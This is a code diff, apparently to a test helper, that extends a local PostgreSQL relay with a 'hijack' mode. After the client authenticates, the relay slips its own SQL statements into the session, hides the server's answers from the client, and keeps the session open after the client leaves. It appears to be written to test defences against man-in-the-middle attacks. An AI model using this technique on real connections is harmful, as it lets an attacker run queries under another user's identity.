@@ -11,6 +11,11 @@ network path would. Wherever it can read the server's messages it records each A
 forwards (`authenticated`): a session the relay could take over, since nothing ties the
 authenticated connection to the client any more.
 
+With `hijack` (and `terminate_tls`) it also acts on the next session it relays: once the server has
+authenticated the client, it runs those statements on that session before the client's first query
+(their answers are not forwarded; `hijack` is then None), and it keeps every session open when the
+client leaves, as an attacker holding the path would, to use it later.
+
 `connections` counts the TCP connections clients opened to it; `client_bytes` is what clients
 sent, as the relay saw it (ciphertext in a TLS pass-through).
 """
@@ -32,10 +37,18 @@ _GSSENC_REQUEST_CODE = 80877104
 class PostgresRelay:
     """Relays 127.0.0.1:`port` to 127.0.0.1:`target_port` until closed (an event loop in a thread)."""
 
-    def __init__(self, target_port: int, *, terminate_tls: CertFiles | None = None, upstream_tls: bool = True) -> None:
+    def __init__(
+        self,
+        target_port: int,
+        *,
+        terminate_tls: CertFiles | None = None,
+        upstream_tls: bool = True,
+        hijack: list[str] | None = None,
+    ) -> None:
         self.target_port = target_port
         self.terminate_tls = terminate_tls
         self.upstream_tls = upstream_tls
+        self.hijack = hijack
         self.port = 0
         self.connections = 0
         self.authenticated = 0
@@ -134,19 +147,73 @@ class PostgresRelay:
             await up_writer.start_tls(client_side)
         if first:
             up_writer.write(first)
-        await asyncio.gather(self._pump(reader, up_writer, record=True), self._watch(up_reader, writer))
+        session = _Session()
+        if self.hijack is not None and not first:
+            client = self._hijacking(reader, up_writer, session)
+        else:
+            client = self._pump(reader, up_writer, record=True)
+        await asyncio.gather(client, self._watch(up_reader, writer, session))
 
-    async def _watch(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        """Forward the server's messages, counting each AuthenticationOk ('R', length 8, code 0)."""
+    async def _watch(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, session: _Session) -> None:
+        """Forward the server's messages, counting each AuthenticationOk ('R', length 8, code 0); the
+        answers to the relay's own statements, and anything after the client left, stay with the relay."""
         while True:
             head = await reader.readexactly(5)
             kind, length = head[:1], struct.unpack("!I", head[1:])[0]
             body = await reader.readexactly(length - 4)
             if kind == b"R" and length == 8 and body == b"\0\0\0\0":
+                session.authenticated = True
                 with self._lock:
                     self.authenticated += 1
-            writer.write(head + body)
-            await writer.drain()
+            if session.swallow:
+                session.swallow -= kind == b"Z"  # ReadyForQuery ends the answer to one statement
+                continue
+            if session.client_gone:
+                continue
+            try:
+                writer.write(head + body)
+                await writer.drain()
+            except (OSError, ConnectionError):
+                session.client_gone = True
+
+    async def _hijacking(
+        self, reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter, session: _Session
+    ) -> None:
+        """The client's messages to the server, the `hijack` statements (if still there) before the
+        client's first one after authentication, and the session kept open when the client leaves."""
+        injected = False
+        head = await reader.readexactly(4)  # the startup packet: a length, no type
+        up_writer.write(head + await reader.readexactly(struct.unpack("!I", head)[0] - 4))
+        await up_writer.drain()
+        while True:
+            try:
+                head = await reader.readexactly(5)
+                body = await reader.readexactly(struct.unpack("!I", head[1:])[0] - 4)
+            except (asyncio.IncompleteReadError, OSError, ssl.SSLError):
+                break
+            if head[:1] == b"X":
+                break
+            if session.authenticated and not injected:
+                injected = True
+                with self._lock:
+                    statements, self.hijack = self.hijack or [], None
+                session.swallow = len(statements)
+                for statement in statements:
+                    payload = statement.encode() + b"\0"
+                    up_writer.write(b"Q" + struct.pack("!I", len(payload) + 4) + payload)
+            up_writer.write(head + body)
+            await up_writer.drain()
+        session.client_gone = True
+        await asyncio.Event().wait()  # hold the server's session until the relay closes
+
+
+class _Session:
+    """What the relay knows about one relayed connection."""
+
+    def __init__(self) -> None:
+        self.authenticated = False
+        self.swallow = 0  # ReadyForQuery messages still to come for the relay's own statements
+        self.client_gone = False
 
 
 def _server_context(cert_file: Path, key_file: Path) -> ssl.SSLContext:
